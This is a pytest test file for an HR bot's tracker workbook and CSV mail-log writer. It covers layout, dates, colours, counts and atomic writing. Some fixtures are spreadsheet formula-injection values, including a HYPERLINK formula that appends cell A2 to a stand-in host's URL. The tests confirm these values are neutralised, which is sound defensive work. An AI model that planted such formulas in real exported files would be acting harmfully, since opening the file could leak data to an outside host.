"""The tracker workbook: sheets, headers, layout, real dates, colours, counts and atomic writing."""

from __future__ import annotations

import stat
import sys
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from bot.errors import HrbotError
from bot.records import (
    ACCEPTED,
    CADRE,
    DEPUTY,
    HEAD,
    IGNORED,
    LATE,
    NO_DOCUMENTS,
    OVERDUE,
    PENDING,
    RECEIVED,
    AttachmentLog,
    LogEntry,
    Person,
    Roster,
    StatusRow,
    Unit,
)
from bot.season.items import LEADER_REVIEW, PERSONAL_REPORT, TEAM_REPORT
from bot.reports.tracker import log_csv_path, tracker_path, write_tracker
from bot.season.roster import load_roster

SHANGHAI = ZoneInfo("Asia/Shanghai")
AS_OF = date(2026, 12, 8)
RED_FILL = "FFC7CE"


def _fill(cell) -> str:
    """A cell's solid fill as RRGGBB; the alpha byte in front is the writer's (Excel ignores it)."""
    assert cell.fill.fill_type == "solid"
    return cell.fill.fgColor.rgb[-6:]


@pytest.fixture
def roster() -> Roster:
    units = {
        "合成车间": Unit("合成车间", "车间", 120, date(2026, 12, 10)),
        "财务科": Unit("财务科", "科室", 12, None),
    }
    people = (
        Person("合成车间", "李建国", HEAD, "lijianguo@tengfei.example"),
        Person("合成车间", "王珺", DEPUTY, "wangjun@tengfei.example"),
        Person("合成车间", "赵磊", CADRE, "zhaolei@tengfei.example"),
        Person("财务科", "陈静", HEAD, "chenjing@tengfei.example"),
    )
    return Roster(units, people)


def _row(unit, item, person, state, *, received_at=None, late=0, versions=0, due=date(2026, 12, 7),
         warnings=()) -> StatusRow:
    return StatusRow(unit, item, person, due, False, state, received_at, late, versions, list(warnings))


@pytest.fixture
def rows() -> list[StatusRow]:
    arrived = datetime(2026, 12, 4, 8, 0, tzinfo=timezone.utc)  # 16:00 in Shanghai
    return [
        _row("合成车间", TEAM_REPORT, None, RECEIVED, received_at=arrived, versions=1),
        _row("合成车间", PERSONAL_REPORT, "李建国", RECEIVED, received_at=arrived, versions=2),
        _row("合成车间", PERSONAL_REPORT, "王珺", LATE, received_at=arrived + timedelta(days=4), late=1,
             versions=1, warnings=("缺少第三部分", "缺少第四部分")),
        _row("合成车间", PERSONAL_REPORT, "赵磊", OVERDUE, late=1),
        _row("合成车间", LEADER_REVIEW, "王珺", PENDING, due=date(2026, 12, 15)),
        _row("财务科", TEAM_REPORT, None, PENDING, due=None),
        _row("财务科", PERSONAL_REPORT, "陈静", OVERDUE, late=3),
    ]


@pytest.fixture
def log() -> list[LogEntry]:
    return [
        LogEntry("<b@x>", "wangjun@tengfei.example", datetime(2026, 12, 8, 1, 0, tzinfo=timezone.utc),
                 NO_DOCUMENTS, subject="请问表格在哪里下载"),
        LogEntry("<a@x>", "lijianguo@tengfei.example", datetime(2026, 12, 4, 8, 0, tzinfo=timezone.utc),
                 ACCEPTED, subject="=HYPERLINK(\"http://evil\")",
                 attachments=[
                     AttachmentLog("合成车间班子述职报告.docx", ACCEPTED, item=TEAM_REPORT, unit="合成车间"),
                     AttachmentLog("logo.png", IGNORED, reason="不是本次考核的材料"),
                 ]),
    ]


@pytest.fixture
def book(tmp_path, rows, log, roster):
    path = write_tracker(tmp_path / "tracker", AS_OF, rows, log, roster, SHANGHAI)
    return load_workbook(path)


def _header(ws, row=1) -> list[str]:
    return [c.value for c in ws[row] if c.value is not None]


def test_tracker_file_named_by_as_of_date(tmp_path, rows, log, roster):
    path = write_tracker(tmp_path, AS_OF, rows, log, roster, SHANGHAI)
    assert path == tracker_path(tmp_path, AS_OF)
    assert path.name == "考核材料跟踪表-2026-12-08.xlsx"
    assert path.exists()


def test_tracker_sheets_in_order(book):
    assert book.sheetnames == ["总览", "明细", "邮件日志", "发信问题", "待处理", "测评"]


def test_tracker_headers(book):
    assert _header(book["明细"]) == ["单位", "材料", "人员", "截止日期", "状态", "首次收到时间",
                                   "迟交工作日", "版本数", "日期待定", "提醒/警告"]
    assert _header(book["邮件日志"], 2) == ["收到时间", "发件人", "主题", "邮件结果", "原因", "附件名",
                                     "附件结果", "附件说明", "识别为", "单位", "人员"]
    # Items without a row this season (meeting request, union review...) get no column.
    assert _header(book["总览"], 2) == ["单位", "班子述职报告", "个人述职报告", "民主评议考核表（领导评价意见）",
                                      "应交", "已交", "逾期", "迟交", "待交"]


def test_tracker_header_bold_frozen_and_filtered(book):
    assert book["明细"].freeze_panes == "A2"
    assert book["邮件日志"].freeze_panes == "A3"  # below the line naming the full log and the header
    assert book["总览"].freeze_panes == "A3"  # below the as-of line and the header
    assert book["明细"].auto_filter.ref == "A1:J8"
    assert book["邮件日志"].auto_filter.ref == "A2:K5"
    assert book["总览"].auto_filter.ref == "A2:I4"
    assert all(c.font.b for c in book["明细"][1])


def test_tracker_overview_as_of_line_and_counts(book):
    ws = book["总览"]
    assert ws["A1"].value == "截至 2026-12-08"
    by_unit = {r[0]: r for r in ws.iter_rows(min_row=3, values_only=True)}
    assert list(by_unit) == ["合成车间", "财务科"]  # roster order
    assert by_unit["合成车间"] == ("合成车间", "1/1", "2/3", "0/1", 5, 2, 1, 1, 1)
    assert by_unit["财务科"] == ("财务科", "0/1", "0/1", None, 2, 0, 1, 0, 1)


def test_tracker_overview_cell_takes_worst_state_colour(book):
    ws = book["总览"]
    assert _fill(ws["B3"]) == "C6EFCE"  # team report received: green
    assert _fill(ws["C3"]) == RED_FILL  # one personal report overdue outweighs the late one


def test_tracker_detail_overdue_first_and_red(book):
    ws = book["明细"]
    states = [r[4] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert states == ["逾期未交", "逾期未交", "迟交", "待提交", "待提交", "已按时提交", "已按时提交"]
    assert ws["C2"].value == "陈静"  # the most working days late comes first
    assert _fill(ws["E2"]) == RED_FILL


def test_tracker_detail_dates_are_real_local_datetimes(book):
    ws = book["明细"]
    row = next(r for r in ws.iter_rows(min_row=2) if r[2].value == "李建国")
    due, received = row[3], row[5]
    assert due.value == datetime(2026, 12, 7) and due.number_format == "yyyy-mm-dd"
    assert received.value == datetime(2026, 12, 4, 16, 0)  # 08:00 UTC shown as Shanghai time
    assert received.number_format == "yyyy-mm-dd hh:mm"
    late = next(r for r in ws.iter_rows(min_row=2, values_only=True) if r[2] == "王珺" and r[4] == "迟交")
    assert late[6:] == (1, 1, None, "缺少第三部分；缺少第四部分")


def test_tracker_detail_unknown_due_date_reads_undecided(book):
    rows = book["明细"].iter_rows(min_row=2, values_only=True)
    row = next(r for r in rows if r[0] == "财务科" and r[2] is None)
    assert row[3] == "未定"


def test_tracker_log_one_row_per_attachment_in_arrival_order(book):
    rows = list(book["邮件日志"].iter_rows(min_row=3, values_only=True))
    assert [r[5] for r in rows] == ["合成车间班子述职报告.docx", "logo.png", None]
    assert rows[0][0] == datetime(2026, 12, 4, 16, 0)
    assert rows[0][1] == "李建国 <lijianguo@tengfei.example>"
    assert rows[0][3:] == ("已登记", None, "合成车间班子述职报告.docx", "已登记", None, "班子述职报告", "合成车间", None)
    assert rows[1][6:8] == ("已忽略", "不是本次考核的材料")
    assert rows[2][3] == "未识别到材料"  # a message without attachments still has its row


def test_tracker_subject_starting_with_equals_stays_text(book):
    cell = book["邮件日志"]["C3"]
    assert cell.value == "=HYPERLINK(\"http://evil\")" and cell.data_type == "s"


def test_tracker_cjk_columns_wider_than_ascii(book):
    ws = book["明细"]
    # "民主评议考核表（领导评价意见）" is 15 CJK characters: about 30 units, not 15.
    assert ws.column_dimensions["B"].width >= 30
    assert ws.column_dimensions["J"].width <= 60


def test_tracker_atomic_no_temp_left_and_private(tmp_path, rows, log, roster):
    folder = tmp_path / "new" / "tracker"
    path = write_tracker(folder, AS_OF, rows, log, roster, SHANGHAI)
    assert sorted(p.name for p in folder.iterdir()) == sorted([path.name, log_csv_path(folder, AS_OF).name])
    if sys.platform != "win32":
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        assert stat.S_IMODE(folder.stat().st_mode) & 0o077 == 0


def test_tracker_written_twice_overwrites(tmp_path, rows, log, roster):
    write_tracker(tmp_path, AS_OF, rows, log, roster, SHANGHAI)
    path = write_tracker(tmp_path, AS_OF, rows[:1], [], roster, SHANGHAI)
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted([path.name, log_csv_path(tmp_path, AS_OF).name])
    wb = load_workbook(path)
    assert len(list(wb["明细"].iter_rows(min_row=2))) == 1
    assert wb["邮件日志"].auto_filter.ref == "A2:K3"


def test_tracker_failed_replace_leaves_no_temp_and_says_why(tmp_path, rows, log, roster, monkeypatch):
    def locked(src, dst):  # as when HR has the workbook open on a Windows share
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr("bot.crashpoints.os.replace", locked)
    with pytest.raises(HrbotError, match="无法写入跟踪表"):
        write_tracker(tmp_path, AS_OF, rows, log, roster, SHANGHAI)
    monkeypatch.undo()
    assert list(tmp_path.iterdir()) == []


def test_tracker_import_does_not_load_a_spreadsheet_library():
    import subprocess

    code = "import sys, bot.reports.tracker; print(any(m in sys.modules for m in ('openpyxl', 'xlsxwriter', 'pandas')))"
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         cwd=Path(__file__).resolve().parents[1], check=True)
    assert out.stdout.strip() == "False"


def test_tracker_views_do_not_load_the_document_readers():
    """status, tracker and remind (bot.reports.views) load the tally reader but no recogniser, nor what reads
    a document, unless tallies/ holds a sheet."""
    import subprocess

    readers = {"parsers.recognise", "parsers.fields", "parsers.docx_text", "opencc", "openpyxl", "docx", "lxml"}
    code = ("import sys, bot.cli, bot.reports.views, bot.out.reminders; "
            f"print(sorted({{m for m in sys.modules if m.split('.')[0] in {{'opencc', 'openpyxl', 'docx', 'lxml'}}"
            f" or m in {readers!r}}}))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         cwd=Path(__file__).resolve().parents[1], check=True)
    assert out.stdout.strip() == "[]"


def test_tracker_control_characters_and_overlong_text_are_cut_to_what_excel_stores(tmp_path, rows, roster):
    subject = "周报\x01\x1f" + "长" * 40000
    log = [LogEntry("<c@x>", "x@y.example", datetime(2026, 12, 8, 1, 0, tzinfo=timezone.utc), NO_DOCUMENTS,
                    subject=subject)]
    book = load_workbook(write_tracker(tmp_path, AS_OF, rows, log, roster, SHANGHAI))
    text = book["邮件日志"]["C3"].value
    assert text.startswith("周报长") and len(text) == 32767


def test_tracker_log_sums_up_strangers_mail_per_sender(tmp_path, rows, log, roster):
    """A working inbox is mostly mail from off the roster: one row per sender and outcome, with the count."""
    from bot.records import UNKNOWN_SENDER

    news = [LogEntry(f"<n{i}@x>", "news@portal.example", datetime(2026, 12, 1 + i, 2, 0, tzinfo=timezone.utc),
                     UNKNOWN_SENDER, subject=f"周刊第{i}期") for i in range(3)]
    other = LogEntry("<o@x>", "friend@other.example", datetime(2026, 12, 2, 2, 0, tzinfo=timezone.utc),
                     UNKNOWN_SENDER, subject="你好")
    book = load_workbook(write_tracker(tmp_path, AS_OF, rows, log + news + [other], roster, SHANGHAI))
    rows_ = list(book["邮件日志"].iter_rows(min_row=3, values_only=True))
    by_sender = {r[1]: r for r in rows_}
    assert len(rows_) == 3 + 2  # the roster members' rows as before, one for each stranger
    assert by_sender["news@portal.example"][2] == "共 3 封（首封 2026-12-01），最近一封：周刊第2期"
    assert by_sender["news@portal.example"][0] == datetime(2026, 12, 3, 10, 0)  # the latest, Shanghai time
    assert by_sender["friend@other.example"][2] == "你好"


def _strangers_mail() -> list[LogEntry]:
    from bot.records import AUTO_REPLY, UNKNOWN_SENDER

    news = [LogEntry(f"<n{i}@x>", "news@portal.example", datetime(2026, 12, 1 + i, 2, 0, tzinfo=timezone.utc),
                     AUTO_REPLY, "邮件列表发出的邮件", subject=f"周刊第{i}期") for i in range(3)]
    notices = [LogEntry(f"<f{i}@x>", "-x@supplier.example", datetime(2026, 12, 5, 2, i, tzinfo=timezone.utc),
                        UNKNOWN_SENDER, "发件人 -x@supplier.example 不在名单中", subject="+报价单",
                        attachments=[AttachmentLog(f"报价{i}.xlsx", IGNORED, reason="发件人不在名单中")])
               for i in range(2)]
    return news + notices


def test_tracker_log_sheet_says_where_the_full_log_is(tmp_path, rows, log, roster):
    path = write_tracker(tmp_path, AS_OF, rows, log + _strangers_mail(), roster, SHANGHAI)
    ws = load_workbook(path)["邮件日志"]
    # Its name, not the server's path: the workbook is also read as the summary mail's attachment.
    assert "跟踪表文件夹中的 考核材料跟踪表-2026-12-08-邮件日志.csv" in ws["A1"].value and str(tmp_path) not in ws["A1"].value
    assert log_csv_path(tmp_path, AS_OF).name == "考核材料跟踪表-2026-12-08-邮件日志.csv"
    summed = next(r for r in ws.iter_rows(min_row=3, values_only=True) if r[1] == "-x@supplier.example")
    assert summed[2] == "共 2 封（首封 2026-12-05），最近一封：+报价单" and summed[5] == "共 2 个附件"


def test_tracker_log_csv_lists_every_message_and_attachment(tmp_path, rows, log, roster):
    import csv

    arrivals = sorted(log + _strangers_mail(), key=lambda e: e.received_at)  # as the store gives them
    write_tracker(tmp_path, AS_OF, rows, arrivals, roster, SHANGHAI)
    data = log_csv_path(tmp_path, AS_OF).read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel and WPS then read UTF-8, not GBK
    table = list(csv.reader(data.decode("utf-8-sig").splitlines()))
    assert table[0] == ["收到时间", "发件人", "主题", "邮件结果", "原因", "附件名", "附件结果", "附件说明", "识别为",
                        "单位", "人员", "Message-ID"]
    body = table[1:]
    # Every message, each attachment on its own row: 1 + 2 from roster members, 3 newsletters, 2 notices.
    assert len(body) == 8
    assert [r[0] for r in body] == sorted(r[0] for r in body)  # in the store's order: arrival
    report = next(r for r in body if r[11] == "<a@x>" and r[5] == "合成车间班子述职报告.docx")
    assert report[:5] == ["2026-12-04 16:00:00", "李建国 <lijianguo@tengfei.example>", "'=HYPERLINK(\"http://evil\")",
                          "已登记", ""]
    assert report[6:11] == ["已登记", "", "班子述职报告", "合成车间", ""]
    assert [r[2] for r in body if r[1] == "news@portal.example"] == ["周刊第0期", "周刊第1期", "周刊第2期"]
    notice = next(r for r in body if r[11] == "<f1@x>")
    # What the mail itself says never starts like a formula; the leading apostrophe keeps it text.
    assert notice[1:6] == ["'-x@supplier.example", "'+报价单", "非名单发件人", "发件人 -x@supplier.example 不在名单中",
                           "报价1.xlsx"]
    assert notice[6:8] == ["已忽略", "发件人不在名单中"]


def test_tracker_log_csv_written_atomically_beside_the_workbook(tmp_path, rows, log, roster, monkeypatch):
    def locked(src, dst):  # HR has yesterday's run's CSV open in Excel on a Windows share
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr("bot.crashpoints.os.replace", locked)
    with pytest.raises(HrbotError, match="考核材料跟踪表-2026-12-08.xlsx"):
        write_tracker(tmp_path, AS_OF, rows, log, roster, SHANGHAI)
    monkeypatch.undo()
    assert list(tmp_path.iterdir()) == []  # neither file, no temp file


def test_tracker_todo_one_line_per_stranger_with_held_files(tmp_path, rows, log, roster):
    """A colleague's forms and a supplier's quotes pile up: one fix (the address in people.csv) per sender."""
    from bot.records import UNKNOWN_SENDER
    from bot.reports.todo import waiting

    single = LogEntry("<q@x>", "liu@163.example", datetime(2026, 12, 6, 1, 0, tzinfo=timezone.utc), UNKNOWN_SENDER,
                      subject="述职报告", attachments=[AttachmentLog("刘洋述职报告.docx", IGNORED)])
    arrivals = sorted(log + _strangers_mail() + [single], key=lambda e: e.received_at)
    todo = waiting(roster, arrivals, rows, [], {})
    path = write_tracker(tmp_path, AS_OF, rows, arrivals, roster, SHANGHAI, todo=todo)
    held = [r for r in load_workbook(path)["待处理"].iter_rows(min_row=2, values_only=True) if r[0] == "待确认的邮件"]
    assert [r[2] for r in held] == ["-x@supplier.example", "liu@163.example", "合成车间 王珺 <wangjun@tengfei.example>"]
    quotes, liu = held[0], held[1]
    assert quotes[1] == datetime(2026, 12, 5, 10, 1)  # the latest of the two, Shanghai time
    assert quotes[3] == "2 封邮件（最近一封「+报价单」）：发件人不在名单中，附件 报价0.xlsx、报价1.xlsx 未登记"
    assert "“邮箱”格末尾加上 ;-x@supplier.example" in quotes[4] and "hrbot reprocess --all-held" in quotes[4]
    assert liu[3] == "「述职报告」：发件人不在名单中，附件 刘洋述职报告.docx 未登记"
    assert "hrbot reprocess --message <q@x>" in liu[4]


def test_tracker_csv_no_cell_reads_as_a_formula_not_even_a_reason_that_starts_with_the_file_name(config_dir, tmp_path):
    """A refused tally's reason begins with the sender's file name: that cell is made inert like the others."""
    import csv
    import io

    from bot.reports.tracker import _log_csv

    name = '=HYPERLINK("http://x.example/?"&A2,"x").xlsx'
    entry = LogEntry("<a@x>", "lijianguo@tengfei.example", datetime(2026, 12, 4, 1, tzinfo=timezone.utc), "rejected",
                     reason="-1", subject="+1",
                     attachments=[AttachmentLog(name, "rejected", f"{name} 第 3 行：实到人数 130 多于应到人数 126")])
    [header, row] = list(csv.reader(io.StringIO(_log_csv([entry], {}, timezone.utc).decode("utf-8-sig"))))
    assert [cell[:1] for cell in row if cell[:1] in ("=", "+", "-", "@")] == []
    assert row[5].startswith("'=") and row[7].startswith("'=")


def test_tracker_csv_that_cannot_be_replaced_leaves_the_workbook_written(config_dir, tmp_path, caplog):
    """HR has the day's CSV open (Excel locks it on Windows): the workbook, which the summary mails, is written all
    the same, and the failure is logged."""
    roster = load_roster(config_dir)
    folder, day = tmp_path / "tracker", date(2026, 12, 4)
    folder.mkdir()
    log_csv_path(folder, day).mkdir()  # stands in for a locked file: replacing it fails
    assert write_tracker(folder, day, [], [], roster, timezone.utc) == tracker_path(folder, day)
    assert tracker_path(folder, day).is_file()
    assert "full mail log was not written" in caplog.text
